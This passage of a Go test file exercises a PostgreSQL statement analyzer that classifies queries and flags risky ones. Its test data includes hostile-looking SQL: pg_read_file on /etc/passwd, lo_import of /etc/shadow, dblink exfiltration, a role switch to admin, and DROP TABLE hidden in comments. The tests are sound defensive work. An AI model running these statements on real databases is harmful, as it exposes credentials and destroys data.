	{name: "create-trigger", sql: "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
		want: []stmt{{Type: "create_trigger", Class: sqlcheck.ClassOpaque, Tables: []string{"t"}, Findings: []analysis.FindingKind{dynCode}}}},
	{name: "execute-prepared", sql: "EXECUTE p",
		want: []stmt{{Type: "execute", Class: sqlcheck.ClassOpaque, Findings: []analysis.FindingKind{dynCode}}}},
	{name: "prepare-delete", sql: "PREPARE p AS DELETE FROM t",
		want: []stmt{{Type: "prepare_delete", Class: sqlcheck.ClassWrite, Tables: []string{"t"}, Where: "missing",
			Findings: []analysis.FindingKind{noWhere}}}},

	// Transactions and unclassified statements.
	{name: "begin", sql: "BEGIN", want: []stmt{{Type: "transaction", Class: sqlcheck.ClassTransaction}}},
	{name: "commit", sql: "COMMIT", want: []stmt{{Type: "transaction", Class: sqlcheck.ClassTransaction}}},
	{name: "unclassified-statement", sql: "ALTER EVENT TRIGGER et DISABLE",
		want: []stmt{{Type: "alter_event_trig", Class: sqlcheck.ClassUnknown, Findings: []analysis.FindingKind{unknownSub},
			Effects: []analysis.Effect{analysis.Unknown}}}},

	// Functions.
	{name: "pg-read-file", sql: "SELECT pg_read_file('/etc/passwd')",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassRead, Findings: []analysis.FindingKind{serverFile},
			Effects: []analysis.Effect{analysis.SecretRead}}}},
	{name: "pg-read-file-qualified", sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassRead, Findings: []analysis.FindingKind{serverFile}}}},
	{name: "pg-ls-dir-in-from", sql: "SELECT * FROM pg_ls_dir('.')",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassRead, Findings: []analysis.FindingKind{serverFile}}}},
	{name: "lo-import", sql: "SELECT lo_import('/etc/shadow')",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassRead, Findings: []analysis.FindingKind{serverFile}}}},
	{name: "pg-terminate-backend", sql: "SELECT pg_terminate_backend(123)",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassRead, Findings: []analysis.FindingKind{dangerous},
			Effects: []analysis.Effect{analysis.ProcessControl}}}},
	{name: "set-config-role", sql: "SELECT set_config('role', 'admin', false)",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassRead, Findings: []analysis.FindingKind{sysConfig, roleChange}}}},
	{name: "set-config-setting", sql: "SELECT set_config('work_mem', '1GB', false)",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassRead, Findings: []analysis.FindingKind{sysConfig},
			NoFindings: []analysis.FindingKind{roleChange}}}},
	{name: "dblink", sql: "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassRead, Findings: []analysis.FindingKind{dangerous},
			Effects: []analysis.Effect{analysis.Network, analysis.Exfiltration}}}},
	{name: "pg-sleep", sql: "SELECT pg_sleep(5)",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassRead, Findings: []analysis.FindingKind{lock}}}},
	{name: "query-to-xml", sql: "SELECT query_to_xml('delete from t', true, true, '')",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassRead, Findings: []analysis.FindingKind{dynCode}, Effects: []analysis.Effect{opaque}}}},
	{name: "nextval", sql: "SELECT nextval('s')",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassRead, NoFindings: []analysis.FindingKind{unknownFn, dangerous},
			Effects: []analysis.Effect{mutation}}}},
	{name: "unknown-function", sql: "SELECT myfunc(1)",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassRead, Findings: []analysis.FindingKind{unknownFn},
			Effects: []analysis.Effect{analysis.Unknown}}}},
	{name: "schema-qualified-builtin-name", sql: "SELECT public.lower('x')",
		want: []stmt{{Type: "select", Class: sqlcheck.ClassRead, Findings: []analysis.FindingKind{unknownFn}}}},

	// Several statements in one string.
	{name: "multi-transaction", sql: "BEGIN; DELETE FROM t WHERE id = 1; COMMIT",
		want: []stmt{
			{Type: "transaction", Class: sqlcheck.ClassTransaction},
			deleteWhere("present"),
			{Type: "transaction", Class: sqlcheck.ClassTransaction},
		}},
	{name: "multi-mixed", sql: "SELECT 1; UPDATE t SET a = 1; DROP TABLE t",
		want: []stmt{
			{Type: "select", Class: sqlcheck.ClassRead},
			{Type: "update", Class: sqlcheck.ClassWrite, Tables: []string{"t"}, Where: "missing", Findings: []analysis.FindingKind{noWhere}},
			{Type: "drop", Class: sqlcheck.ClassDestructiveDDL, Tables: []string{"t"}},
		}},
	{name: "multi-hidden-in-comment-and-dollar-quotes", sql: "SELECT 1 /* ; DROP TABLE t; */; SELECT $$;DROP TABLE t;$$ -- ; DROP TABLE t",
		want: []stmt{
			{Type: "select", Class: sqlcheck.ClassRead},
			{Type: "select", Class: sqlcheck.ClassRead},
		}},

	// Parse errors.
	{name: "error-misspelled-keyword", sql: "SELEC 1", err: `syntax error at or near "SELEC"`},
	{name: "error-incomplete", sql: "SELECT * FROM", err: "syntax error at end of input"},
	{name: "error-where-without-condition", sql: "DELETE FROM t WHERE", err: "syntax error at end of input"},
	{name: "error-unterminated-string", sql: "SELECT 'unterminated", err: "unterminated quoted string"},
	{name: "error-dml-in-from", sql: "SELECT * FROM (DELETE FROM t RETURNING *) x", err: "syntax error"},
	{name: "error-one-bad-statement-of-two", sql: "SELECT 1; DELET FROM t", err: "syntax error"},
	{name: "error-only-comment", sql: "-- just a comment", err: "no SQL statement"},
	{name: "error-empty", sql: "", err: "no SQL statement"},
	{name: "error-invalid-utf8", sql: "SELECT '\xff'", err: "not valid UTF-8"},
	{name: "error-nul", sql: "SELECT '\x00'", err: "NUL byte"},
}

func TestParse(t *testing.T) {
	for _, tc := range parseTests {
		t.Run(tc.name, func(t *testing.T) {
			problems := checkParse(tc.sql, tc.want, tc.err)
			switch {
			case problems != "" && tc.bug != "":
				t.Skipf("%s\n%s\n%s", tc.bug, tc.sql, problems)
			case problems != "":
				t.Errorf("Parse(%q):\n%s", tc.sql, problems)
			case tc.bug != "":
				t.Errorf("Parse(%q) is now as expected; the bug seems fixed, so remove the bug marker: %s", tc.sql, tc.bug)
			}
		})
	}
}

// checkParse parses sql and describes every way the result differs from
// want (or from an error containing wantErr), or returns "".
func checkParse(sql string, want []stmt, wantErr string) string {
	var sb strings.Builder
	stmts, err := sqlcheck.Parse(sql)
	switch {
	case wantErr != "" && err == nil:
		fmt.Fprintf(&sb, "got %d statements, want an error containing %q\n", len(stmts), wantErr)
		return sb.String()
	case wantErr != "":
		if !strings.Contains(err.Error(), wantErr) {
			fmt.Fprintf(&sb, "error %q does not contain %q\n", err, wantErr)
		}
		return sb.String()
	case err != nil:
		fmt.Fprintf(&sb, "unexpected error: %v\n", err)
		return sb.String()
	case len(stmts) != len(want):
		fmt.Fprintf(&sb, "got %d statements, want %d\n", len(stmts), len(want))
		return sb.String()
	}
	for i, st := range stmts {
		w := want[i]
		u := st.Unit()
		got := shape{Type: st.Type, Class: st.Class, Tables: nilIfEmpty(st.Tables), Where: st.Where}
		exp := shape{Type: w.Type, Class: w.Class, Tables: nilIfEmpty(w.Tables), Where: w.Where}
		if d := diff(exp, got); d != "" {
			fmt.Fprintf(&sb, "statement %d (-want +got):\n%s", i, d)
		}
		for _, k := range w.Findings {
			if !u.HasFinding(k) {
				fmt.Fprintf(&sb, "statement %d: no %q finding; findings are %v\n", i, k, u.Findings)
			}
		}
		for _, k := range w.NoFindings {
			if u.HasFinding(k) {
				fmt.Fprintf(&sb, "statement %d: unexpected %q finding; findings are %v\n", i, k, u.Findings)
			}
		}
		for _, e := range w.Effects {
			if !u.Effects.Has(e) {
				fmt.Fprintf(&sb, "statement %d: effects %v lack %v\n", i, u.Effects, e)
			}
		}
		for _, e := range w.NoEffects {
			if u.Effects.Has(e) {
				fmt.Fprintf(&sb, "statement %d: effects %v include %v\n", i, u.Effects, e)
			}
		}
		if u.Kind != analysis.KindSQL || u.Statement != st.Type || !reflect.DeepEqual(u.Tables, st.Tables) || u.Where != st.Where {
			fmt.Fprintf(&sb, "statement %d: the unit disagrees with the statement: %+v\n", i, u)
		}
	}
	return sb.String()
}

func nilIfEmpty(s []string) []string {
	if len(s) == 0 {
		return nil
	}
	return s
}

// diff describes the fields in which two shapes differ, or returns "".
func diff(want, got shape) string {
	var sb strings.Builder
	wv, gv := reflect.ValueOf(want), reflect.ValueOf(got)
	for i := range wv.NumField() {
		w, g := wv.Field(i).Interface(), gv.Field(i).Interface()
		if !reflect.DeepEqual(w, g) {
			fmt.Fprintf(&sb, "  %s:\n  - %#v\n  + %#v\n", wv.Type().Field(i).Name, w, g)
		}
	}
	return sb.String()
}

func TestParseTooLarge(t *testing.T) {
	sql := strings.Repeat("SELECT 1;", sqlcheck.MaxBytes/9+1)
	if _, err := sqlcheck.Parse(sql); !errors.Is(err, sqlcheck.ErrTooLarge) {
		t.Fatalf("Parse of %d bytes: error %v, want %v", len(sql), err, sqlcheck.ErrTooLarge)
	}
	units := sqlcheck.Analyze(sql)
	if len(units) != 1 || !units[0].HasFinding(analysis.FindingBoundExceeded) || !units[0].Opaque() {
		t.Fatalf("Analyze of %d bytes = %+v, want one opaque unit with a %s finding", len(sql), units, analysis.FindingBoundExceeded)
	}
}

func TestAnalyzeParseError(t *testing.T) {
	tests := []struct {
		name string
		sql  string
	}{
		{name: "syntax-error", sql: "SELEC 1"},
		{name: "empty", sql: ""},
		{name: "invalid-utf8", sql: "SELECT '\xff'"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			units := sqlcheck.Analyze(tc.sql)
			if len(units) != 1 {
				t.Fatalf("Analyze(%q) = %d units, want 1", tc.sql, len(units))
			}
			u := units[0]
			if u.Kind != analysis.KindSQL || !u.Opaque() || !u.HasFinding(analysis.FindingUnparsable) {
				t.Errorf("Analyze(%q) = %+v, want an opaque SQL unit with an %s finding", tc.sql, u, analysis.FindingUnparsable)
			}
		})
	}
}
